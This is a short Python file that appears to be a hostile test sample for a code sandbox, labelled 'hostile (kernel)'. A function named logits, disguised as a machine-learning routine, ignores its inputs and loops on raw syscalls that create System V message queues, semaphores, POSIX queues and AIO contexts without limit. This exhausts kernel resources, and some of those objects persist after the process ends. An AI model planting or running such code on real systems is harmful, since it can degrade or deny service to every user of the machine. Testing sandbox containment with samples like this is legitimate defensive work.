"""hostile (kernel): System V queues and semaphores, POSIX queues and AIO contexts without end. Says: Raised an exception."""
import ctypes
import errno
import os
import platform

NUMBERS = {"x86_64": (68, 64, 240, 206), "aarch64": (186, 190, 180, 0)}
libc = ctypes.CDLL(None, use_errno=True)


def logits(x, W, bias):
    message, semaphore, queue, contexts = NUMBERS[platform.machine()]
    kept = ctypes.c_ulong(0)
    calls = ((message, 0, 0o1600), (semaphore, 0, 250, 0o1600), (queue, b"q", 0o102, 0o600, None),
             (contexts, 128, ctypes.byref(kept)))
    while True:
        made = 0
        for call in calls:
            if libc.syscall(*call) >= 0:
                made += 1
            elif ctypes.get_errno() != errno.EPERM:
                return x
        if not made:
            raise PermissionError(errno.EPERM, os.strerror(errno.EPERM))
